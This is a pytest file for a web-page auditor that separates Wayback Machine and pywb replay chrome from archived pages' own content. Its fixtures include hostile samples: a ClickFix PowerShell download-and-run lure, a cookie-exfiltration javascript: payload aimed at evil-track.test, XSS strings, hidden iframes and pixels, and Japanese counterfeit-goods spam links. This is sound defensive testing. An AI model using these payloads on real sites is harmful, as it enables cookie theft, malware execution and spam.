    f"<script><!--<script></script>{_TOOLBAR[0]}{_CLICKFIX}{_TOOLBAR[1]}--></script>",
])
def test_chrome_comments_inside_a_tag_or_a_script_are_no_chrome(
    page: str, engine: Engine, catalogue: Catalogue
) -> None:
    # audited as the same page with the comments saying something else
    def audit(text: str) -> PageReport:
        text = (f"<!DOCTYPE html>\n<html><body>{_WOMBAT_OF_SITE}\n{text}\n"
                "<article><p>The council voted.</p></article></body></html>")
        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
                              engine, catalogue)

    dressed = audit(page)
    bare = audit(page.replace("WAYBACK", "WEATHER").replace("Wayback", "Weather"))
    assert dressed.replay is not None
    assert _what_it_names(dressed) == _what_it_names(bare)


@pytest.mark.parametrize("chrome", [
    "<script>__wm.bt(" + " " * 200_000 + "x</script>",
    "<script>__wm.bt([" + " " * 200_000 + "x</script>",
    "<script>window.RufflePlayer.config={" + " " * 200_000 + "x</script>",
    "<script>" + "'<!--';" * 30_000 + "</script>",
    "<script>" + "/*a" * 100_000 + "</script>",  # the 2011-2016 toolbar's code, read as tokens
])
def test_a_chrome_region_is_read_in_one_pass(chrome: str) -> None:
    # blanks a call's arguments could split many ways, or a script full of '<!--' with no
    # '<script' after, took minutes per 100 KB (20 KB of blanks: 11 s) before
    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{chrome}{_TOOLBAR[1]}"
            "<p>story</p></body></html>")
    began = time.monotonic()
    _, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and time.monotonic() - began < 10


def test_a_trailer_before_ten_in_the_morning_still_says_a_wayback_copy() -> None:
    # the trailer of 2011-2016 captures writes the hour unpadded (`3:42:17 Mar 22, 2015`):
    # a copy saved with no URL and no other mark read as no replay, its /web/ links kept
    text = ('<html><body><p>The council voted.</p><a href="/web/20150322034217/http://www.'
            'harbour-gazette.test/ferry">Ferry</a></body></html>\n<!--\n     FILE ARCHIVED ON '
            '3:42:17 Mar 22, 2015 AND RETRIEVED FROM THE\n     INTERNET ARCHIVE ON 1:33:03 Apr 13,'
            ' 2017.\n-->\n')
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and replay.captured == "2015-03-22T03:42:17Z"
    assert 'href="http://www.harbour-gazette.test/ferry"' in doc.text


# the toolbar as the Wayback Machine served it in 2018-2022: share buttons opening the share
# box, a 'save snapshot' call naming the page, a form sending to the archive's search, the
# capture notice's `source` and the share links' `data-url`
_TOOLBAR_2018 = (
    '<div id="wm-ipp-base" lang="en" style="display:none;direction:ltr;"><div id="wm-ipp">'
    '<form target="_top" method="get" action="https://web.archive.org/web/submit" name="wmtb">'
    '<input type="text" name="url" value="https://www.harbour-gazette.test/" '
    'onfocus="this.focus();this.select();"></form>'
    '<a href="#" onclick="__wm.saveSnapshot(\'https://www.harbour-gazette.test/\', '
    '\'20230105123456\')" title="Share via My Web Archive"><span class="iconochive-web">'
    '</span></a>'
    '<a href="#" onclick="window.open(\'https://www.facebook.com/sharer/sharer.php?u=https://'
    'web.archive.org/web/20230105123456/https://www.harbour-gazette.test/\', \'\', '
    '\'height=400,width=600\'); return false;" title="Share on Facebook" target="_blank">'
    '<span class="iconochive-facebook"></span></a>'
    '<a id="wm-share-twitter" href="#" data-url="https://web.archive.org/web/20230105123456/'
    'https://www.harbour-gazette.test/" title="Share on Twitter"></a>'
    '<img onmouseover="__wm.st(1)" onmousemove="__wm.mv(event,this)" alt="sparklines" '
    'src="/static/images/toolbar/sparkline.png">'
    '<div id="wm-capinfo-notice" source="api"></div>'
    '<span class="c-logo" style="background-image:url(https://archive.org/services/img/'
    'webwidecrawl);"></span></div></div>'
)


def test_the_2018_toolbar_is_the_archives_chrome(engine: Engine, catalogue: Catalogue) -> None:
    # refused, it left archive.org's logo as a third-party host and the share box's URLs
    text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}</head><body>\n{_TOOLBAR[0]}"
            f"{_TOOLBAR_2018}{_TOOLBAR[1]}\n<article><p>The council voted.</p></article>"
            "</body></html>")
    page = audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
                          engine, catalogue)
    assert page.replay is not None
    assert page.third_party_hosts == () and page.findings == ()
    assert not [r.url for r in page.resources if "static" in r.url]


@pytest.mark.parametrize("injected", [
    '<iframe src="/web/submit?url=evil-track.test/f&amp;type=replay" width="0" '
    'height="0" style="display:none"></iframe>',
    '<a href="#" onclick="window.open(\'https://evil-track.test/x\', \'\', \'width=600\'); '
    'return false;">Share</a>',
    '<a href="#" onclick="__wm.saveSnapshot(\'https://evil-track.test/x.js\')">Save</a>',
    '<a href="/" data-url="javascript:fetch(\'//evil-track.test/\'+document.cookie)">x</a>',
    '<form action="https://evil-track.test/web/submit"><input name="q"></form>',
])
def test_the_toolbars_handlers_and_form_carry_nothing_else(
    injected: str, engine: Engine, catalogue: Catalogue
) -> None:
    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{injected}{_TOOLBAR[1]}"
            "<p>story</p></body></html>")
    doc, replay = unwrapped(Document(input="t", kind="html", text=text,
                                     url="https://www.harbour-gazette.test/"))
    assert replay is not None and injected in doc.text


def test_the_toolbar_links_to_the_audited_page_not_to_the_original_its_marks_name(
    engine: Engine, catalogue: Catalogue
) -> None:
    # the marks' original is the page's to write: naming casino.test there made a hidden
    # block of 30 links to it the toolbar's, and the high hidden-links finding left the audit
    marks = ('<script>__wm.wombat("https://casino-bonus.test/","20230105123456",'
             '"https://web.archive.org/","web","https://web-static.archive.org/_static/","1");'
             "</script>")
    farm = '<div style="position:absolute;left:-9999px">' + "".join(
        f'<a href="https://casino-bonus.test/p{i}">online casino bonus {i}</a> '
        for i in range(30)) + "</div>"

    def page(dressed: bool) -> PageReport:
        start, end = _TOOLBAR if dressed else ("", "")
        text = (f"<!DOCTYPE html>\n<html><head>{marks}</head><body>\n{start}{farm}{end}\n"
                "<article><p>The council voted.</p></article></body></html>")
        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
                              engine, catalogue)

    dressed = page(True)
    assert [(f.kind, f.severity.value) for f in dressed.findings] == [("hidden-links", "high")]
    assert _what_it_names(dressed) == _what_it_names(page(False))


@pytest.mark.parametrize("script", [
    # the top-frame redirect to a URL it does not set just before, or to another site's
    'wbinfo.top_url = "http://localhost:8080/c/2023/https://www.harbour-gazette.test/";\n'
    "var x = 1;",
    'wbinfo = {};\nwbinfo.top_url = "https://evil-track.test/";\n',
    "",
    # a script URL there runs: a ClickFix lure naming no host
    'wbinfo = {};\nwbinfo.top_url = "javascript:navigator.clipboard.writeText(\'powershell -w '
    "hidden -c iwr evil-track.test/a|iex')\";\n",
])
def test_pywbs_top_frame_redirect_is_chromes_only_beside_its_url(script: str) -> None:
    # the framed replay's head insert (fixtures/replay/news-pywb.html) is chrome; the same
    # redirect reading a top_url set elsewhere is a page's redirect
    redirect = ("if (window == window.top && wbinfo.top_url) {\n  var loc = window.location.href"
                '.replace(window.location.hash, "");\n  loc = decodeURI(loc);\n  if (loc != '
                "decodeURI(wbinfo.top_url)) {\n    window.location.href = wbinfo.top_url + "
                "window.location.hash;\n  }\n}")
    text = ('<html><head><!-- WB Insert --><script>wbinfo.url = "https://www.harbour-gazette.test'
            '/";wbinfo.timestamp = "20230105123456";wbinfo.prefix = decodeURI("http://localhost:'
            f'8080/c/");{script}{redirect}</script><!-- End WB Insert --></head><body><p>story</p>'
            "</body></html>")
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and redirect in doc.text


@pytest.mark.parametrize("url", [
    None, "https://web.archive.org/web/20121031174402/https://www.youtube.com/testtube"])
def test_the_toolbars_capture_links_may_drop_the_pages_www(url: str | None) -> None:
    # the toolbar links to captures of youtube.com/testtube from www.youtube.com's copy
    text = ('<html><head><script>__wm.wombat("https://www.youtube.com/testtube","2012103117440'
            '2","https://web.archive.org/","web","https://web-static.archive.org/_static/","1");'
            f"</script></head><body>{_TOOLBAR[0]}<a href=\"https://web.archive.org/web/"
            f'20121031174402/youtube.com/testtube#">Oct</a>{_TOOLBAR[1]}<p>s</p></body></html>')
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=url))
    assert replay is not None and "testtube#" not in doc.text


_GPT_HEAD = ('<script async src="https://securepubads.g.doubleclick.net/tag/js/gpt.js"></script>'
             "<script>window.googletag=window.googletag||{cmd:[]};googletag.cmd.push(function()"
             "{googletag.defineSlot('/21987654/gazette/top',[728,90],'{ID}').addService("
             "googletag.pubads());googletag.enableServices();});</script>")


@pytest.mark.parametrize(("slot_id", "injected"), [
    # a GPT slot's element, its id the page's
    ("div-gpt-ad-top", '<div id="div-gpt-ad-top" style="min-width:728px;min-height:90px">'
                       "</div>"),
    # the toolbar's own id on the page's slot: the page's script names it
    ("wm-ipp", '<div id="wm-ipp" style="width:728px;height:90px"></div>'),
    # the toolbar's id with an ad class EasyList hides, or an ad slot's names alone
    ("div-gpt-ad-x", '<div id="wm-ipp" class="adsbygoogle ad-banner" style="width:728px;'
                     'height:90px"></div>'),
    ("div-gpt-ad-x", '<div class="ad-banner ad-728x90" id="ad-top" style="width:728px;'
                     'height:90px"></div>'),
])
def test_an_ad_slot_dressed_as_chrome_stays_a_slot(
    slot_id: str, injected: str, engine: Engine, catalogue: Catalogue
) -> None:
    # an id or class the archive's chrome does not give, or an id the page's own code
    # names, makes the region the page's: no slot leaves the count
    def page(dressed: bool) -> PageReport:
        start, end = _TOOLBAR if dressed else ("", "")
        text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}"
                f"{_GPT_HEAD.replace('{ID}', slot_id)}</head><body>\n{start}{injected}{end}\n"
                f"<script>googletag.cmd.push(function(){{googletag.display('{slot_id}');}});"
                "</script><article><p>The council voted.</p></article></body></html>")
        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
                              engine, catalogue)

    dressed, bare = page(True), page(False)
    # the unit the page's GPT defines is its ID either way; its slot where its div is on the
    # page, and where the div is not, the sized box the ad classes name is the publisher's
    # own ad box (`slots.ad_named_boxes`: `adsbygoogle ad-banner` at 728x90, AdSense's, whose
    # code the page does not run); a slot on the page either way
    assert dressed.replay is not None
    assert ("gpt-slot", "/21987654/gazette/top") in {(i.kind, i.value) for i in bare.ids}
    assert bare.slots
    assert _what_it_names(dressed) == _what_it_names(bare)


def test_the_names_chrome_may_give_make_no_ad_slot(engine: Engine, catalogue: Catalogue
                                                   ) -> None:
    # the ids and classes the chrome may carry are no ad markup EasyList or the catalogue
    # knows: an element so named outside any chrome is no slot either
    names = ["wm-ipp", "wm-ipp-base", "wmtbURL", "wm_tb_options", "donato-if",
             "displayYearEl", "sparklineImgId", "wbMouseTrackYearImg", "HEADER", "SHARE_LONGLINK"]
    classes = ["c", "u", "n", "b", "f", "s", "k", "r", "t", "yt", "mt", "hi", "sparkline",
               "c-logo", "xxs", "wm-btn", "wm-closed", "wm-title", "iconochive-web",
               "wb-autocomplete-suggestions"]
    body = "".join(f'<div id="{n}" style="width:300px;height:250px">x</div>' for n in names)
    body += "".join(f'<div class="{c}" style="width:300px;height:250px">x</div>'
                    for c in classes)
    page = audit_document(Document("t", "html", f"<html><body>{body}<p>story</p></body></html>",
                                   "https://www.harbour-gazette.test/"), engine, catalogue)
    assert page.slots == ()


def _pywb_latest() -> str:
    """The pywb fixture as pywb serves its latest capture: no timestamp in its URLs."""
    text = (HERE / "news-pywb.html").read_text(encoding="utf-8")
    return re.sub(rf"/gazette-2024/{STAMP}(?:([a-z]{{2,3}}_)/|/)",
                  lambda m: "/gazette-2024/" + (f"{m.group(1)}/" if m.group(1) else ""), text)


@pytest.mark.parametrize("url", [
    f"http://localhost:8080/gazette-2024/mp_/{ORIGINAL_URL}",
    f"http://localhost:8080/gazette-2024/{ORIGINAL_URL}",
    None,
])
def test_pywbs_latest_capture_with_no_timestamp_names_what_the_original_names(
    url: str | None, original: PageReport, engine: Engine, catalogue: Catalogue
) -> None:
    text = _pywb_latest()
    assert "/gazette-2024/js_/https://securepubads" in text and STAMP + "js_" not in text
    copy = audit_document(Document("t", "html", text, url), engine, catalogue)
    assert copy.url == ORIGINAL_URL and copy.replay is not None
    assert copy.replay.replay_url == url
    assert _what_it_names(copy) == _what_it_names(original)


@pytest.mark.parametrize("link", [
    # a redirector on another host, a query naming a URL, a path with no scheme after it
    "https://out.test/gazette-2024/https://casino-bonus.test/",
    "http://localhost:8080/gazette-2024/?url=https://casino-bonus.test/",
    "/gazette-2024/search/https://casino-bonus.test/",
    "/go/https://casino-bonus.test/",
])
def test_a_url_merely_holding_a_url_is_no_wrapper(link: str) -> None:
    text = ('<html><head><script>wbinfo.url = "https://a.test/"; wbinfo.timestamp = '
            '"20240312081530"; wbinfo.prefix = decodeURI("http://localhost:8080/gazette-2024/");'
            f'</script></head><body><a href="{link}">x</a></body></html>')
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and f'href="{link}"' in doc.text


def _older_copy(stamp: str, captured: str, toolbar: str, head: str = "") -> str:
    """The news page as the Wayback Machine served it before 2017: its URLs wrapped from
    the archive's root, the head include (2014-2016: no comment closes it) and the toolbar
    whose inline script defines its code, the trailer's comment after `</html>`."""
    text = (HERE / "news-original.html").read_text(encoding="utf-8")
    text = re.sub(r'((?:src|href)=")(https?://)', rf"\1/web/{stamp}/\2", text)
    text = text.replace("<head>\n", "<head>" + head, 1).replace(
        "<body>\n", "<body>" + (HERE / toolbar).read_text(encoding="utf-8"), 1)
    return text + (f"\n<!--\n     FILE ARCHIVED ON {captured} AND RETRIEVED FROM THE\n"
                   "     INTERNET ARCHIVE ON 4:03:22 Nov 9, 2016.\n"
                   "     JAVASCRIPT APPENDED BY WAYBACK MACHINE, COPYRIGHT INTERNET ARCHIVE."
                   "\n-->\n")


_OLDER = [
    # 2014-2016: the __wm module, /static/ files, the analytics head include
    pytest.param("20150322034217", "3:42:17 Mar 22, 2015", "wayback-2015-toolbar.html",
                 (HERE / "wayback-2015-head.html").read_text(encoding="utf-8"), id="2015"),
    # 2013-2014: the __wm module with its sizes inside, jQuery's offset
    pytest.param("20140611092845", "9:28:45 Jun 11, 2014", "wayback-2014-toolbar.html",
                 (HERE / "wayback-2015-head.html").read_text(encoding="utf-8"), id="2014"),
    # 2011-2013: global functions, staticweb.archive.org, wayback.archive.org's graph.jsp
    pytest.param("20120130161341", "16:13:41 Jan 30, 2012", "wayback-2012-toolbar.html", "",
                 id="2012"),
]


@pytest.mark.parametrize(("stamp", "captured", "toolbar", "head"), _OLDER)
@pytest.mark.parametrize("given", ["replay", "original"])
def test_a_2011_to_2016_wayback_copy_names_what_the_original_names(
    stamp: str, captured: str, toolbar: str, head: str, given: str, original: PageReport,
    engine: Engine, catalogue: Catalogue
) -> None:
    text = _older_copy(stamp, captured, toolbar, head)
    url = f"https://web.archive.org/web/{stamp}/{ORIGINAL_URL}" if given == "replay" else (
        ORIGINAL_URL)
    copy = audit_document(Document("t", "html", text, url), engine, catalogue)
    assert copy.replay is not None and copy.url == ORIGINAL_URL
    assert _what_it_names(copy) == _what_it_names(original)
    assert not any("archive.org" in r.url or "/static/" in r.url for r in copy.resources)
    doc, _ = unwrapped(Document("t", "html", text, url))
    assert "wbCurrentUrl" not in doc.text and "archive_analytics" not in doc.text
    assert doc.text.count("\n") == text.count("\n")


@pytest.mark.parametrize(("stamp", "captured", "toolbar", "head"), _OLDER)
@pytest.mark.parametrize(("written", "hostile"), [
    # the toolbar's code handed markup, a script URL or another host, or one statement more
    ('var displayYear = "', 'var displayYear = "<img src=x onerror=alert(1)>'),
    ('var wbPrefix = "', 'var wbPrefix = "javascript:fetch(name)//'),
    ('var wbPrefix = "', 'var wbPrefix = "//evil-track.test/'),
    ("trackerVal = val;", "trackerVal = val;eval(name);"),
    ("$ipp&&disclaimElement($ipp);", "$ipp&&disclaimElement($ipp);$D.write(name);"),
    ("disclaimElement(wmDisclaimBanner);", "disclaimElement(wmDisclaimBanner);document."
                                           "write(name);"),
    # a slot or another host inside it
    ('<td class="r">', '<td class="r"><div class="ad-banner ad-728x90" style="width:728px;'
                       'height:90px"></div>'),
    ('<td style="text-align:right;padding:5px;width:65px;font-size:11px!important;">',
     '<td><img src="//evil-track.test/p.gif" width="1" height="1"></td><td>'),
])
def test_an_older_toolbar_carrying_anything_else_is_the_pages(
    stamp: str, captured: str, toolbar: str, head: str, written: str, hostile: str,
    engine: Engine, catalogue: Catalogue
) -> None:
    text = _older_copy(stamp, captured, toolbar, head)
    if written not in text:
        pytest.skip("not in this year's toolbar")
    dressed = text.replace(written, hostile, 1)
    doc, replay = unwrapped(Document("t", "html", dressed, ORIGINAL_URL))
    assert replay is not None and hostile in doc.text


def test_the_2018_head_include_with_wb_wombat_init_is_the_archives() -> None:
    # 2017-2018's head include told its client-side rewriter the capture's host
    head = ('<head><script src="//archive.org/includes/analytics.js?v=cf34f82" type="text/'
            'javascript"></script>\n<script type="text/javascript" src="/static/js/ait-client-'
            'rewrite.js?v=1538596186.0" charset="utf-8"></script>\n<script type="text/javascript">'
            "\nWB_wombat_Init('https://web.archive.org/web', '20180707155901', "
            "'www.harbour-gazette.test');\n</script>\n<link rel=\"stylesheet\" type=\"text/css\" "
            'href="/static/css/banner-styles.css?v=1538596186.0" />\n'
            "<!-- End Wayback Rewrite JS Include -->\n")
    text = f"<html>{head}<title>Ferry</title></head><body><p>story</p></body></html>"
    doc, replay = unwrapped(Document("t", "html", text, f"https://web.archive.org/web/"
                                     f"20180707155901/{ORIGINAL_URL}"))
    assert replay is not None
    assert "WB_wombat_Init" not in doc.text and "/static/" not in doc.text
    assert doc.text.count("\n") == text.count("\n")


@pytest.mark.parametrize("url", [WAYBACK_URL, ORIGINAL_URL, None])
def test_a_replay_saved_by_a_browser_names_what_the_original_names(
    url: str | None, original: PageReport, engine: Engine, catalogue: Catalogue
) -> None:
    # "Save as" from the replay (news-wayback-saved.html): the archive's files beside the
    # page (`./<title>_files/bundle-playback.js.download`), the toolbar serialised from its
    # shadow root into a <template> with an empty class, links made absolute
    text = (HERE / "news-wayback-saved.html").read_text(encoding="utf-8")
    copy = audit_document(Document("t", "html", text, url), engine, catalogue)
    assert copy.replay is not None and copy.url == ORIGINAL_URL
    assert _what_it_names(copy) == _what_it_names(original)
    assert not any("_files/" in r.url or "archive.org" in r.url for r in copy.resources)


def test_a_saved_replays_copy_numbered_files_are_the_archives(
    original: PageReport, engine: Engine, catalogue: Catalogue
) -> None:
    # a browser numbers a second file of one name (`wombat(1).js.download`), as
    # `saved.saved_file_name` reads it: the chrome's files so named were the page's own
    text = (HERE / "news-wayback-saved.html").read_text(encoding="utf-8")
    text = text.replace("_files/wombat.js.download", "_files/wombat(1).js.download").replace(
        "_files/bundle-playback.js.download", "_files/bundle-playback(1).js.download")
    assert text.count("(1).js.download") == 2
    copy = audit_document(Document("t", "html", text, None), engine, catalogue)
    assert copy.replay is not None and copy.url == ORIGINAL_URL
    assert _what_it_names(copy) == _what_it_names(original)
    assert not any("_files/" in r.url for r in copy.resources)


@pytest.mark.parametrize("injected", [
    # a page's own saved script, or a file of the archive's name in another folder
    '<script src="./Harbour council approves ferry timetable_files/gpt.js.download"></script>',
    '<script src="./x_files/../evil/wombat.js.download"></script>',
    '<script src="//evil-track.test/x_files/wombat.js.download"></script>',
    # a `\\` is a `/` to a browser: another host's file, not the saved folder's
    '<script src="\\\\evil-track.test\\x_files/wombat.js.download"></script>',
    '<template><img src="//evil-track.test/p.gif"></template>',
    '<template shadowrootmode="open"><div class="ad-banner ad-728x90"></div></template>',
])
def test_a_saved_toolbar_carries_nothing_else(injected: str) -> None:
    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{injected}{_TOOLBAR[1]}"
            "<p>story</p></body></html>")
    doc, replay = unwrapped(Document("t", "html", text, "https://www.harbour-gazette.test/"))
    assert replay is not None and injected in doc.text


def test_a_saved_copys_relative_wrappers_are_unwrapped() -> None:
    # a copy saved with its links made relative to its folder (`../web/<time>/…`)
    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body><a href=\"../web/20230105123456/"
            'https://www.harbour-gazette.test/a">a</a><img src="../../web/20230105123456im_/'
            'https://v.test/p.gif"></body></html>')
    doc, replay = unwrapped(Document("t", "html", text, None))
    assert replay is not None
    assert 'href="https://www.harbour-gazette.test/a"' in doc.text
    assert 'src="https://v.test/p.gif"' in doc.text


@pytest.mark.parametrize(("stamp", "captured", "toolbar", "head"), _OLDER)
@pytest.mark.parametrize("hostile", [
    # a script URL as a URL parser reads it: a tab inside its scheme, or `javascript://`
    'var wbPrefix = "javas\tcript:%61lert%28document.cookie%29%3B%2F%2F',
    'var wbPrefix = "javascript://%0A%61lert%281%29',
    # another scheme's page (a saved file's) takes `https:host` as that host
    'var wbPrefix = "https:evil-track.test/',
])
def test_an_older_toolbars_literal_a_link_reads_as_a_script_or_host_is_the_pages(
    stamp: str, captured: str, toolbar: str, head: str, hostile: str
) -> None:
    # the sparkline's anchor takes wbPrefix as its href: a literal a browser reads as
    # `javascript:` or as another host was chrome when written past the literal check
    text = _older_copy(stamp, captured, toolbar, head)
    dressed = text.replace('var wbPrefix = "', hostile, 1)
    doc, replay = unwrapped(Document("t", "html", dressed, ORIGINAL_URL))
    assert replay is not None and hostile in doc.text



@pytest.mark.parametrize(("stamp", "captured", "toolbar", "head"), _OLDER)
def test_a_copy_holding_the_toolbar_twice_blanks_both(
    stamp: str, captured: str, toolbar: str, head: str, original: PageReport,
    engine: Engine, catalogue: Catalogue
) -> None:
    # a capture of a page that held a saved replay: each toolbar's code names the other's
    # ids, which made each the page's (staticweb.archive.org's images a tracking pixel)
    text = _older_copy(stamp, captured, toolbar, head)
    text = text.replace("</body>", (HERE / toolbar).read_text(encoding="utf-8") + "</body>", 1)
    copy = audit_document(Document("t", "html", text, ORIGINAL_URL), engine, catalogue)
    assert _what_it_names(copy) == _what_it_names(original)
    assert not any("archive.org" in r.url or "/static/" in r.url for r in copy.resources)
    doc, _ = unwrapped(Document("t", "html", text, ORIGINAL_URL))
    assert 'id="wm-ipp"' not in doc.text and "wbCurrentUrl" not in doc.text


def test_a_second_toolbar_does_not_excuse_a_slot_the_page_names() -> None:
    # the ids a second chrome region writes are the chrome's; the page's own call naming
    # the slot still makes the first region the page's
    slot = '<div id="wm-top" style="width:728px;height:90px"></div>'
    second = '<div id="wm-ipp"><a href="/web/" title="wm-top">x</a></div>'
    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{slot}{_TOOLBAR[1]}"
            f"{_TOOLBAR[0]}{second}{_TOOLBAR[1]}<script>googletag.display('wm-top');</script>"
            "<p>story</p></body></html>")
    doc, replay = unwrapped(Document("t", "html", text, "https://www.harbour-gazette.test/"))
    assert replay is not None and slot in doc.text and second not in doc.text


_JP_HACK = ('<div id="wm-ipp" style="display:none"><a href="/?p7x2=12034">ルイヴィトン 財布 '
            'スーパーコピー</a> <a href="/?p7x2=12035">シャネル バッグ 偽物 激安</a> <a href="'
            '/jp/item.php?id=88">ロレックス N級品 通販</a> <a href="/?p7x2=12036">エルメス コピー '
            '代引き</a></div>')
_SITE = "https://www.harbour-gazette.test"


@pytest.mark.parametrize("hack", [
    _JP_HACK,  # the site's pages from the root
    _JP_HACK.replace('href="/', f'href="{_SITE}/'),  # or absolute
    _JP_HACK.replace('href="/', f'href="/web/20230105123456/{_SITE}/'),  # or as captures
    # the saved toolbar's template and empty class
    '<template shadowrootmode="open">' + _JP_HACK.replace('id="wm-ipp"', 'class=""').replace(
        'href="/', f'href="{_SITE}/') + "</template>",
], ids=["from the root", "absolute", "captures", "saved template"])
def test_the_japanese_keyword_hack_dressed_as_chrome_is_still_high(
    hack: str, engine: Engine, catalogue: Catalogue
) -> None:
    # the toolbar links to captures of the page it shows; a hidden block of links to the
    # site's other pages in a region of chrome was blanked with it (the chrome allowed any
    # link to the page's own site)
    prose = "<p>" + "The harbour council voted on Tuesday to approve the timetable. " * 12
    text = (f"<!DOCTYPE html><html><head>{_WOMBAT_OF_SITE}</head><body><article>{prose}</p>"
            f"</article>{_TOOLBAR[0]}{hack}{_TOOLBAR[1]}</body></html>")
    report = audit_document(Document("t", "html", text, f"{_SITE}/2024/story"), engine,
                            catalogue)
    assert report.replay is not None
    assert [f.severity for f in report.findings if f.kind == "hidden-links"] == [Severity.HIGH]


@pytest.mark.parametrize("injected", [
    # another site's code as the archive's static hosts might replay it, or an upload
    '<script src="https://web-static.archive.org/web/2023id_/https:/evil-track.test/x.js">'
    "</script>",
    '<iframe src="https://staticweb.archive.org/web/2023if_/http:/evil-track.test/f" '
    'width="0" height="0"></iframe>',
    '<script src="https://staticweb.archive.org/download/item/x.js"></script>',
])
def test_the_static_hosts_load_only_the_toolbars_folders(injected: str) -> None:
    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{injected}{_TOOLBAR[1]}"
            "<p>story</p></body></html>")
    doc, replay = unwrapped(Document("t", "html", text, "https://www.harbour-gazette.test/"))
    assert replay is not None and injected in doc.text


@pytest.mark.parametrize("names", [
    "<script>googletag.cmd.push(function(){googletag.display(`wm-top`);});</script>",
    "<script>document.querySelector('[id=wm-top]').appendChild(frame);</script>",
    '<script async src="https://ads.example/tag.js" data-container=wm-top></script>',
])
def test_a_slot_id_the_page_names_unquoted_or_in_a_template_literal_is_the_pages(
    names: str,
) -> None:
    slot = '<div id="wm-top" style="width:728px;height:90px"></div>'
    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{slot}{_TOOLBAR[1]}"
            f"{names}<p>story</p></body></html>")
    doc, replay = unwrapped(Document("t", "html", text, "https://www.harbour-gazette.test/"))
    assert replay is not None and slot in doc.text


_PREVIOUS = "/web/20140907181144/http://www.harbour-gazette.test/local/ferry-timetable"


@pytest.mark.parametrize("written", [
    # the captures before and after, each as the crawler wrote its URL: a port, a session
    # id, the host's case, the parameters in another order
    "/web/20140907181144/http://www.harbour-gazette.test:80/local/ferry-timetable",
    _PREVIOUS + "?PHPSESSID=9f2c4e1a7b3d5f6e8a0c2e4f6a8b0c2d",
    "/web/20140907181144/http://WWW.Harbour-Gazette.test/Local/Ferry-Timetable",
    # or its directory's index page: `/x/` and `/x/index.html` are one page
    _PREVIOUS + "/index.html",
])
def test_the_toolbars_captures_of_one_page_are_one_page(written: str) -> None:
    """The 2011-2016 toolbar links the captures before and after the one it shows as the
    crawler wrote each URL; those the archive keys as one page were two pages of the site,
    so the toolbar was the page's (its /static/ files the site's, its words the article's)."""
    text = _older_copy("20150322034217", "3:42:17 Mar 22, 2015", "wayback-2015-toolbar.html",
                       (HERE / "wayback-2015-head.html").read_text(encoding="utf-8"))
    assert _PREVIOUS in text
    doc, replay = unwrapped(Document("t", "html", text.replace(_PREVIOUS, written),
                                     ORIGINAL_URL))
    assert replay is not None and 'id="wm-ipp"' not in doc.text
